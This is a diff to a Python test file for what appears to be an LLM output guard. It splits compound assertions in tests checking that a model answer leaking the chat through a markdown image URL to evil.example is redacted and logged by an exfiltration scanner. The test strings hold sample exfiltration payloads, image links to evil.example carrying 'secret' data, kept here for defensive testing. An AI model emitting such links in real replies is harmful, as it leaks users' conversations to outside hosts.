@@ -53,7 +53,8 @@ def test_an_answer_exfiltrating_the_chat_is_redacted_and_recorded(tmp_path):
     assert result.text == "Done. ![status]([REDACTED:image_url_carries_conversation])"
     assert "evil.example" not in wb.calls.last()["text"]
     [event] = wb.guard.df().query("scanner == 'exfiltration'").to_dict("records")
-    assert event["action"] == "redact" and json.loads(event["findings"])[0]["kind"] == "image_url_carries_conversation"
+    assert event["action"] == "redact"
+    assert json.loads(event["findings"])[0]["kind"] == "image_url_carries_conversation"
     off = Workbench.from_config(
         store=str(tmp_path / "o.db"),
         scripted={"rules": [{"pattern": "memo", "reply": leak}]},
@@ -64,4 +65,6 @@ def test_an_answer_exfiltrating_the_chat_is_redacted_and_recorded(tmp_path):
 
 def test_the_live_preview_never_loads_an_image_or_html():
     shown = inert('Hi ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/q">')
-    assert "![" not in shown and "<img" not in shown and "evil.example" in shown  # shown as text, fetched by nothing
+    assert "![" not in shown
+    assert "<img" not in shown
+    assert "evil.example" in shown  # shown as text, fetched by nothing
